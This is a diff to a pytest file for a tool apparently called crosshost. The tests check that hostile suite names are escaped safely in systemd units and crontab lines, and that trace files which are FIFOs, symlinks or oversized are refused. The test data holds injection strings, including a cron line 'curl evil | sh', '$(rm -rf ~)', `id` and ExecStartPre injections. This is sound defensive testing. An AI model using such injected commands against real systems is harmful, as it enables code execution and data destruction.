@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import io
 import json
+import os
 import re
 import shlex
 import shutil
 import subprocess
+import sys
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
@@ -85,36 +87,93 @@ def test_a_unit_never_gains_a_directive_even_from_a_name_that_bypassed_validatio
         schedule.systemd_quote("/tmp/a\nExecStartPre=/bin/sh")
 
 
-@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
-def test_systemd_analyze_verifies_the_units_of_a_hostile_name(tmp_path: Path) -> None:
-    every = schedule.parse_every("1h")
-    units = schedule._systemd_units(
-        "crosshost-t", INJECTED + " %n $X", every, ["/bin/true", "a b", "50%"], tmp_path
-    )
-    for name, text in units.items():
-        (tmp_path / name).write_text(text)
-    done = subprocess.run(["systemd-analyze", "verify", "--user", str(tmp_path / "crosshost-t.service"),
-                           str(tmp_path / "crosshost-t.timer")], capture_output=True, text=True, timeout=60)  # fmt: skip
-    assert "ExecStartPre" not in _unit_keys(units["crosshost-t.service"])
-    problems = [line for line in done.stderr.splitlines() if "crosshost-t" in line]
-    assert problems == [], done.stderr
-
-
 def test_a_suite_path_with_a_newline_never_reaches_a_crontab(project: Path) -> None:
     suite = project / "tri\n* * * * * curl evil | sh\nage"
     shutil.copytree(TRIAGE, suite)
     with pytest.raises(InputError, match=r"suite .* control character \(\\x0a\)"):
         schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron")
 
-    # and a legal path with shell and cron metacharacters is one word of one entry
-    suite = project / "tri 'age; $(rm -rf ~) %d"
-    shutil.copytree(TRIAGE, suite)
+
+# legal in suite.toml and in a path, and each character means something to systemd, a shell or cron
+HOSTILE_NAME = '[/oops] tri"age %n $HOME \\ `id`; ExecStartPre=/bin/touch pwned \\'
+HOSTILE_DIR = "suite 'x' $(touch pwned) `touch pwned` %d; \\n"
+# one ExecStart= word: a double-quoted one (backslash escapes inside) or a bare one
+_EXEC_WORD = re.compile(r' ?(?:"((?:[^"\\]|\\.)*)"|([^\s"\\]+))')
+
+
+def _hostile_project(project: Path) -> tuple[Path, Path]:
+    """A suite named HOSTILE_NAME in a directory named HOSTILE_DIR under a working directory as hostile."""
+    work = project / "work dir %n $HOME 'q'"
+    work.mkdir()
+    suite = work / HOSTILE_DIR
+    shutil.move(_suite(project, HOSTILE_NAME), suite)
+    (work / "hosts.toml").write_text((project / "hosts.toml").read_text())
+    return work, suite
+
+
+def _exec_words(value: str) -> list[str]:
+    """An ExecStart= value split as systemd splits it: words one space apart, a quoted word's
+    backslash escapes undone, then the specifier (%%) and variable ($$) escapes undone."""
+    found = list(_EXEC_WORD.finditer(value))
+    assert "".join(m.group(0) for m in found) == value, value  # nothing systemd would read otherwise
+    words = [re.sub(r"\\(.)", r"\1", m.group(1)) if m.group(1) is not None else m.group(2) for m in found]
+    return [w.replace("%%", "%").replace("$$", "$") for w in words]
+
+
+def test_schedule_install_of_a_hostile_suite_writes_units_systemd_verifies(
+    project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    work, suite = _hostile_project(project)
+    monkeypatch.chdir(work)
+    args = ["schedule", str(suite), "--every", "1h", "-i", "hosts.toml", "--systemd", "--install"]
+    done = CliRunner().invoke(app, args)
+    assert done.exit_code == 0, done.output
+    units = sorted((project / "config" / "systemd" / "user").iterdir())
+    assert [u.suffix for u in units] == [".service", ".timer"]
+    # the system manager's checks, which a user's unit passes too (--user needs a session's runtime dir)
+    verify = subprocess.run(["systemd-analyze", "verify", *map(str, units)], capture_output=True, text=True,
+                            timeout=120)  # fmt: skip
+    assert verify.returncode == 0 and units[0].stem not in verify.stdout + verify.stderr, verify.stderr
+    service = dict(line.split("=", 1) for line in units[0].read_text().splitlines() if "=" in line)
+    assert set(service) == {"Description", "Type", "TimeoutStartSec", "KillSignal", "WorkingDirectory", "ExecStart"}
+    assert service["WorkingDirectory"].replace("%%", "%") == str(work)
+    assert _exec_words(service["ExecStart"]) == [
+        *schedule.crosshost_command(), "replay", str(suite), "-i", str(work / "hosts.toml"),
+        "--out", str(work / "runs"), "--compare-last"]  # fmt: skip
+    assert 'tri"age %%n $HOME' in service["Description"]  # free text: the specifier escaped
+    assert not (work / "pwned").exists()
+
+
+def test_a_unit_refuses_a_working_directory_systemd_would_read_otherwise() -> None:
+    for bad in ("/srv/ends in a space ", "/srv/ends\\"):
+        with pytest.raises(InputError, match="a unit file cannot hold this path"):
+            schedule.systemd_path(Path(bad))
+    assert schedule.systemd_path(Path("/srv/a %n $X")) == "/srv/a %%n $X"
+
+
+def test_the_crontab_line_of_a_hostile_suite_is_one_entry_whose_shell_runs_one_command(
+    project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    work, suite = _hostile_project(project)
+    monkeypatch.chdir(work)
+    argv_file = project / "argv"
+    recorder = project / "crosshost"  # stands in for the real one: records the words it was given
+    recorder.write_text(f"#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done > {shlex.quote(str(argv_file))}\n")
+    recorder.chmod(0o755)
+    monkeypatch.setattr(schedule, "crosshost_command", lambda: [str(recorder)])
     line = schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron").cron_line
-    assert line is not None and "\n" not in line
+    assert line is not None and "\n" not in line  # one crontab entry
     fields = line.split(None, 5)
     assert fields[:5] == ["0", "*/1", "*", "*", "*"]
-    words = shlex.split(fields[5].replace("\\%", "%"))
-    assert str(suite) in words  # the path is one word of the shell line, not code
+    # cron ends the command at a bare % (what follows is its stdin) and turns \% into %
+    assert not re.search(r"(?<!\\)%", fields[5])
+    command = fields[5].replace("\\%", "%")
+    done = subprocess.run(["sh", "-c", command], cwd="/", capture_output=True, text=True, timeout=60,
+                          env={"PATH": "/usr/bin:/bin"})  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    expected = ["replay", str(suite), "-i", str(work / "hosts.toml"), "--out", str(work / "runs"), "--compare-last"]
+    assert argv_file.read_bytes().split(b"\0")[:-1] == [os.fsencode(w) for w in expected]
+    assert not (work / "pwned").exists() and not Path("/pwned").exists()
 
 
 # --- the terminal, report.md and junit.xml ---------------------------------------------------------
@@ -232,11 +291,60 @@ def test_a_fifo_or_a_symlink_in_a_suite_is_refused_before_it_is_read(tmp_path: P
     with pytest.raises(SuiteError, match=r"prompt.md: cannot read .*not a regular file"):
         read_suite(suite)
     prompt.unlink()
-    secret = tmp_path / "id_ed25519"
-    secret.write_text("not for a host\n")
-    prompt.symlink_to(secret)
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    prompt.symlink_to(fifo)  # read first, it would hang: refused as a link, never opened
     with pytest.raises(SuiteError, match=r"prompt.md: cannot read .*symbolic link"):
         read_suite(suite)
+
+
+def _cli(*args: str) -> tuple[int, str]:
+    """The real command in a child process (a hang is a failure here, not a stuck test run)."""
+    done = subprocess.run([str(Path(sys.executable).parent / "crosshost"), *args], capture_output=True, text=True,
+                          timeout=60)  # fmt: skip
+    return done.returncode, done.stdout + done.stderr
+
+
+def test_a_trace_nested_deeper_than_the_bound_is_a_damaged_trace_not_a_crash(tmp_path: Path) -> None:
+    run = _two_passing(tmp_path)
+    trace = RunDir(run).trace_path("box-b", "t1", 0)
+    lines = trace.read_text().splitlines(keepends=True)
+    # under the interpreter's recursion limit, so the parser takes it; over the bound, so nothing after does
+    lines.insert(1, '{"type": "turn", "step": 1, "tool": "read_unit_status", "args": {"unit": '
+                    + "[" * 900 + "]" * 900 + "}}\n")  # fmt: skip
+    trace.write_text("".join(lines))
+    code, out = _cli("report", str(run))
+    assert code == 3 and "internal error" not in out, out
+    verdict, why = _box_b_t1(analyse_run(run))
+    assert verdict == "error" and why.startswith(f"damaged trace: {trace}:2: not JSON (nested more than 100")
+
+
+@pytest.mark.parametrize("special", ["fifo", "/dev/zero"])
+def test_a_fifo_or_dev_zero_in_a_run_directory_is_refused_not_read(tmp_path: Path, special: str) -> None:
+    run = _two_passing(tmp_path)
+    for path in (RunDir(run).trace_path("box-b", "t1", 0), run / "results.jsonl"):
+        path.unlink()
+        if special == "fifo":
+            os.mkfifo(path)
+        else:
+            path.symlink_to(special)
+    code, out = _cli("report", str(run))
+    assert code == 3 and "not a regular file" in out and "Traceback" not in out, out
+    code, out = _cli("flips", str(run / "results.jsonl"), "local", "box-b")
+    assert code == 2 and out.strip() == f"TraceError: {run / 'results.jsonl'}: cannot read: not a regular file (refused: not read)"
+
+
+def test_a_line_over_the_bound_is_a_damaged_line_and_reading_goes_on(tmp_path: Path) -> None:
+    from agent_runner.jsonfile import MAX_LINE_BYTES
+    from orchestrator.rundir import TraceError, iter_jsonl
+
+    results = tmp_path / "results.jsonl"
+    results.write_text('{"ok": 1}\n{"a": "' + "x" * MAX_LINE_BYTES + '"}\n{"ok": 2}\n')
+    bad: list[str] = []
+    rows = [row for _, row in iter_jsonl(results, on_bad_line=lambda where, why: bad.append(f"{where}: {why}"))]
+    assert rows == [{"ok": 1}, {"ok": 2}] and bad == [f"{results}:2: a line longer than {MAX_LINE_BYTES} bytes"]
+    with pytest.raises(TraceError, match=r"results.jsonl:2: a line longer than"):
+        list(iter_jsonl(results))
 
 
 def test_a_byte_order_mark_is_not_a_syntax_error(tmp_path: Path) -> None:
